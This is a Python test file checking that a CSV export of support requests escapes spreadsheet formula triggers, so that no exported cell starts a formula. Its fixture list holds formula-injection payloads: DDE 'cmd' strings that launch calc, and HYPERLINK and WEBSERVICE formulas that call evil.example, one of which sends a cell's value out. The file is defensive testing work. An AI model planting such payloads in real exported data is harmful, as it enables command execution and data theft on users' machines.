"""Spreadsheet cells: nothing that a spreadsheet would run, and every cell in its place."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from projects.spreadsheets import DANGEROUS, harmless
from requestlog.cleaning import clean_text
from tests.requestlog.conftest import create_row

TRIGGERS = "=+-@\t\r\n\0＝＋－＠"
FORMULAS = [
    *(f"{trigger}1+1" for trigger in TRIGGERS),
    *(
        "=cmd|' /C calc'!A0",
        "+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        'DDE("cmd";"/C calc")',
        "-2+3+cmd|'!A0",
    ),
    *(
        '=HYPERLINK("http://evil.example?"&A1,"x")',
        '=WEBSERVICE("http://evil.example")',
        '=IMPORTXML("http://x","//a")',
    ),
    *('"=1+1', ";=1+1", ",=1+1", "\n=1+1", "\r\n=1+1", "'=1+1", " =1+1", "\t=1+1", '","=1+1', '";"=1+1', '"\r\n"=1+1'),
    *("-1", "+1", "=", "@", "x" * 32_767, "x" * 32_768, "a\rb", "\ufeff=1", "a\0b", "a\tb", '"', '""', "'", ",", "\\"),
]


def cells_of(as_alice) -> list[list[str]]:
    text = as_alice.get("/p/support/requests.csv").getvalue().decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_it_keeps_every_text_in_its_cell_and_none_starts_a_formula(project, as_alice):
    for hours, text in enumerate(FORMULAS):
        comment = clean_text(text)
        create_row(project, hours=hours, rating="negative", comment=comment, tags=["=tag"], response=text.encode())
    header, *rows = cells_of(as_alice)
    assert len(rows) == len(FORMULAS)
    for text, row in zip(FORMULAS, rows, strict=True):
        assert len(row) == len(header)
        assert not any(cell[:1] in DANGEROUS for cell in row)
        assert row[header.index("feedback_comment")] == harmless(clean_text(text))
        assert row[header.index("response")] == harmless(text)


@pytest.mark.parametrize("trigger", TRIGGERS, ids=ascii)
def test_it_marks_each_trigger(trigger):
    assert harmless(f"{trigger}1") == f"'{trigger}1"
    assert harmless(f"1{trigger}") == f"1{trigger}"


def test_it_leaves_our_own_numbers_alone(project, as_alice):
    create_row(project)
    project.requests.update(cost_usd="0.00000001", latency_ms=0)
    header, row = cells_of(as_alice)
    assert (row[header.index("cost_usd")], row[header.index("latency_ms")]) == ("0.00000001", "0")


@given(st.text())
def test_it_only_ever_adds_an_apostrophe(text):
    assert harmless(text) in (text, f"'{text}")
    assert harmless(text)[:1] not in DANGEROUS
